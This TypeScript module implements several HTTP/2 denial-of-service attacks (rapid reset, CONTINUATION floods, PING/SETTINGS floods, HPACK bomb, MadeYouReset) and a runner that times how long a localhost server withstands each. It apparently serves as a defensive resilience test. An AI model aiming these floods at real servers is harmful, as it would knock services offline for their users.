/**
 * Attacks on an HTTP/2 server, frame by frame, each with the rate of its kind. In: a port. Out: when the server said
 * GOAWAY or hung up, counted from the attack's begin.
 *   rapid reset CVE-2023-44487, CONTINUATION flood CVE-2024-27983, PING and SETTINGS floods CVE-2019-9512 and 9515,
 *   HPACK bomb CVE-2016-6581, MadeYouReset CVE-2025-8671
 */
import net from 'node:net'
import {
  block,
  FLAG,
  FRAME,
  frame,
  FrameReader,
  headers,
  integer,
  ping,
  PREFACE,
  requestFields,
  reset,
  settings,
  windowUpdate,
} from './h2-wire.ts'

export interface AttackResult {
  /** When the connection was over for the attacker: GOAWAY with an error, or the end; Infinity: never. */
  endedMs: number
  /** Of the GOAWAY; -1: none came, the connection was closed. */
  code: number
  framesSent: number
}

export interface Attack {
  name: string
  /** What goes out in step `n`; undefined: it has done all it wanted. */
  step: (n: number) => Buffer | undefined
  framesPerStep: number
  /** Steps leave at this pace; 0: as fast as they are taken. */
  everyMs: number
}

const STEP = 100
const get = block(requestFields('GET', '/'))
const id = (n: number): number => 2 * n + 1
const many = (count: number, one: (i: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => one(i)))

/** Fills the dynamic table with one long field, and then names it again and again. */
function bomb(stream: number): Buffer {
  const fill = block([['x-bomb', 'b'.repeat(3800)]], true)
  const again = Buffer.concat(Array.from({ length: 8000 }, () => integer(62, 7, 0x80)))
  return headers(stream, Buffer.concat([block(requestFields('GET', '/')), fill, again]))
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'rapid reset, 10,000 streams',
    step: (n) =>
      n < 100
        ? many(STEP, (i) => Buffer.concat([headers(id(n * STEP + i), get), reset(id(n * STEP + i), 8)]))
        : undefined,
    framesPerStep: 2 * STEP,
    everyMs: 0,
  },
  {
    name: 'CONTINUATION, 100,000 frames',
    step: (n) => {
      if (n === 0) return frame(FRAME.HEADERS, FLAG.END_STREAM, 1, get)
      return n <= 1000 ? many(STEP, (i) => frame(FRAME.CONTINUATION, 0, 1, block([[`x-${n}-${i}`, 'v']]))) : undefined
    },
    framesPerStep: STEP,
    everyMs: 0,
  },
  {
    name: 'empty CONTINUATION, 100,000 frames',
    step: (n) => {
      if (n === 0) return frame(FRAME.HEADERS, FLAG.END_STREAM, 1, get)
      return n <= 1000 ? many(STEP, () => frame(FRAME.CONTINUATION, 0, 1)) : undefined
    },
    framesPerStep: STEP,
    everyMs: 0,
  },
  { name: 'PING, 10,000 a second', step: () => many(STEP, () => ping()), framesPerStep: STEP, everyMs: 10 },
  {
    name: 'SETTINGS, 10,000 a second',
    step: () => many(STEP, () => settings([3, 100])),
    framesPerStep: STEP,
    everyMs: 10,
  },
  { name: 'HPACK bomb', step: (n) => (n < 200 ? bomb(id(n)) : undefined), framesPerStep: 1, everyMs: 5 },
  {
    name: 'MadeYouReset, 10,000 streams',
    step: (n) =>
      n < 100
        ? many(STEP, (i) => {
            const stream = id(n * STEP + i)
            // a window of more than 2^31-1 makes the server reset the stream itself
            return Buffer.concat([headers(stream, get), windowUpdate(stream, 0x7fffffff)])
          })
        : undefined,
    framesPerStep: 2 * STEP,
    everyMs: 0,
  },
  {
    name: 'empty DATA, 10,000 a second',
    step: (n) => (n === 0 ? headers(1, get, false) : many(STEP, () => frame(FRAME.DATA, 0, 1))),
    framesPerStep: STEP,
    everyMs: 10,
  },
]

/** Attacks until the server has had enough, at most `forMs` long. */
export function runAttack(port: number, attack: Attack, forMs: number): Promise<AttackResult> {
  return new Promise((resolve) => {
    const socket = net.connect({ port, host: '127.0.0.1', noDelay: true })
    const reader = new FrameReader()
    const startMs = performance.now()
    const result: AttackResult = { endedMs: Infinity, code: -1, framesSent: 0 }
    let n = 0
    let over = false
    const finish = (): void => {
      if (over) return
      over = true
      clearTimeout(limit)
      socket.destroy()
      resolve(result)
    }
    const ended = (code: number): void => {
      if (result.endedMs === Infinity) Object.assign(result, { endedMs: performance.now() - startMs, code })
      finish()
    }
    const limit = setTimeout(finish, forMs)
    const send = (): void => {
      if (over) return
      const bytes = attack.step(n++)
      if (bytes === undefined) return // it waits for what the server makes of it
      result.framesSent += attack.framesPerStep
      const taken = socket.write(bytes)
      if (attack.everyMs > 0) setTimeout(send, attack.everyMs)
      else if (taken) setImmediate(send)
      else socket.once('drain', send)
    }
    socket.on('connect', () => {
      socket.write(Buffer.concat([PREFACE, settings()]))
      send()
    })
    socket.on('data', (chunk: Buffer) => {
      for (const { type, payload } of reader.push(chunk))
        if (type === FRAME.GOAWAY && payload.readUInt32BE(4) !== 0) ended(payload.readUInt32BE(4))
    })
    socket.on('error', () => ended(-1))
    socket.on('close', () => ended(-1))
  })
}
